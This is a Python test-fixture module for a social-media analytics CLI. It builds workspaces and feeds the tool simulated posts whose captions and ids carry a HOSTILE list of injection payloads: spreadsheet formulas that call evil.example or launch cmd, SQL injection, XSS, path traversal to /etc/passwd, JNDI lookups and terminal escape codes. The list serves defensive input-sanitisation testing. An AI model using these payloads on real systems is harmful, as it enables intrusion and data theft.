"""Workspaces that the command works in as a process of its own, and posts that mean it no good."""

import csv
import json
import os
import subprocess
import sys
from collections.abc import Iterable, Mapping
from datetime import timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import polars as pl

from features.schema import IMPORT
from features.simulate import World, simulate
from features.store import Store

ROW = {
    "platform": "tiktok",
    "post_id": "p1",
    "account_id": "a1",
    "published_at": "2026-01-31T12:00:00Z",
    "observed_at": "2026-02-04T12:00:00Z",
    "media_type": "video",
    "caption": "a cat",
    "duration_s": "12.5",
    "sound_id": "s1",
    "followers": "1000",
    "views": "50",
    "likes": "5",
    "comments": "1",
    "shares": "0",
    "saves": "",
}

SMALL = {
    "CLIPCAST_TRAINING__TRIALS": "1",
    "CLIPCAST_TRAINING__FOLDS": "2",
    "CLIPCAST_TRAINING__FAMILIES": '["performance"]',
    "CLIPCAST_GATE__REPLICATES": "100",
    "CLIPCAST_THREADS": "1",
}

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=quoted already",
    "\x1b[31mred\x1b[2J\x1b]0;title\x07",
    "\x9b31m\x00\x08\x7f",
    "[red]markup[/] [/] [link=http://evil.example]x[/link] :warning:",
    "\u202egnp.exe\u2066 \u200fabc",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "/absolute/path",
    "Robert'); DROP TABLE posts; --",
    '" OR "1"="1',
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "| a | b |\n| :-- | --: |\n# heading ![x](http://evil.example/x.png) `code`",
    "{{7*7}} ${jndi:ldap://evil.example} %s %n {0}",
    'a,b;"c"\nd',
    "\ufeffmark",
    "e\u0301\u0327 \U0001f468\u200d\U0001f469\u200d\U0001f467",
)
"""What strangers write where a caption, an id or the name of a sound is asked for."""

RUN_BY_SPREADSHEETS = ("=", "+", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""What a spreadsheet takes for the start of a formula."""

OBEYED = "".join(map(chr, [*range(0x20), *range(0x7F, 0xA0), *range(0x202A, 0x202F), *range(0x2066, 0x206A)]))
"""Characters that a terminal obeys; the end of a line is the only one that a screen may hold."""


def write_rows(path: Path, rows: Iterable[Mapping[str, object]], columns: Iterable[str] = tuple(ROW)) -> Path:
    """Write rows as Python's csv does, with line ends that let a value hold any of its own."""
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, list(columns), extrasaction="ignore", lineterminator="\r\n")
        writer.writeheader()
        writer.writerows(rows)
    return path


class Workspace:
    """An empty workspace in a folder, and the command as a process in any time zone."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.home, self.data = folder / "home", folder / "data"

    def clipcast(
        self, *arguments: object, zone: str = "UTC", expect: int = 0, cwd: Path | None = None, **settings: str
    ) -> subprocess.CompletedProcess[str]:
        """Run the command; its answer must be the one expected."""
        env = {**os.environ, **SMALL, "CLIPCAST_HOME": str(self.home), "CLIPCAST_DATA": str(self.data), "TZ": zone}
        done = subprocess.run(
            [sys.executable, "-m", "flows.cli", *map(str, arguments)],
            capture_output=True,
            text=True,
            check=False,
            env={**env, **settings},
            cwd=cwd,
        )
        assert done.returncode == expect, done.stdout + done.stderr
        assert "Traceback" not in done.stdout + done.stderr, done.stdout + done.stderr
        return done

    def json(self, *arguments: object) -> dict:
        """Run a command that answers in JSON."""
        return json.loads(self.clipcast(*arguments, "--json").stdout)


END = World().end
DAY = str((END - timedelta(days=1)).date())
ABROAD = ("DE", "GB", "IN", "NZ", None)


def hostile_posts() -> pl.DataFrame:
    """Simulated posts of one platform in spring, whose texts were written by strangers: as text, row by row."""
    world = World(accounts=24, weeks=17, posts_per_week=1.5)
    posts = simulate(world).posts.filter(pl.col("platform") == "tiktok")
    number = pl.col("account_id").rank("dense").cast(pl.Int64)
    posts = posts.with_columns(number=number, at=pl.int_range(pl.len()))
    rows = []
    for row in posts.to_dicts():
        text = HOSTILE[row["number"] % len(HOSTILE)]
        zone = ZoneInfo("America/New_York")
        rows.append(
            {
                **row,
                "account_id": f"{text}{row['number']}",
                "post_id": f"{HOSTILE[len(row['post_id']) * 7 % len(HOSTILE)]}{row['post_id']}",
                "caption": f"{HOSTILE[row['at'] % len(HOSTILE)]} {row['caption'] or ''}",
                "sound_id": row["sound_id"] and f"{text}{row['sound_id']}",
                "media_type": row["media_type"] if row["at"] % 3 else HOSTILE[row["at"] % len(HOSTILE)],
                "country": ABROAD[row["number"] % len(ABROAD)],
                "published_at": row["published_at"].astimezone(zone).isoformat(),
                "observed_at": row["observed_at"].astimezone(zone).isoformat(),
            }
        )
    rows[5]["caption"] = "\U0001f600" * 262_144
    return pl.DataFrame(rows, infer_schema_length=None).select(list(IMPORT))


def odd_posts() -> list[pl.DataFrame]:
    """Posts whose outcomes are all equal, and those of a single account that says nothing of them."""
    posts = simulate(World(accounts=12, weeks=20, posts_per_week=3.0)).posts
    silent = ("caption", "duration_s", "sound_id", "followers", "comments", "media_type", "language", "country")
    nothing = (pl.lit(None, IMPORT[name]).alias(name) for name in silent)
    return [
        posts.filter(pl.col("platform") == "instagram").with_columns(likes=pl.lit(7, pl.Int64)),
        posts.filter(pl.col("platform") == "youtube").with_columns(pl.lit("only one").alias("account_id"), *nothing),
    ]


def hostile_workspace(folder: Path, zone: str) -> Workspace:
    """Import hostile posts and odd ones, and train on them, as processes in a time zone."""
    workspace = Workspace(folder)
    posts = hostile_posts()
    write_rows(folder / "posts.csv", posts.to_dicts(), IMPORT)
    drafts = posts.unique("post_id", keep="last", maintain_order=True).tail(60)
    counts = ("observed_at", "views", "likes", "comments", "shares", "saves")
    write_rows(folder / "drafts.csv", drafts.drop(counts).to_dicts(), [name for name in IMPORT if name not in counts])
    workspace.clipcast("import", folder / "posts.csv", "--source", "strangers", zone=zone)
    Store(workspace.data).append(odd_posts(), "odd")
    settings = {"CLIPCAST_TRAINING__MIN_ACCOUNTS": "1"}
    workspace.said = workspace.clipcast("run", "weekly", "--date", DAY, zone=zone, **settings)
    return workspace
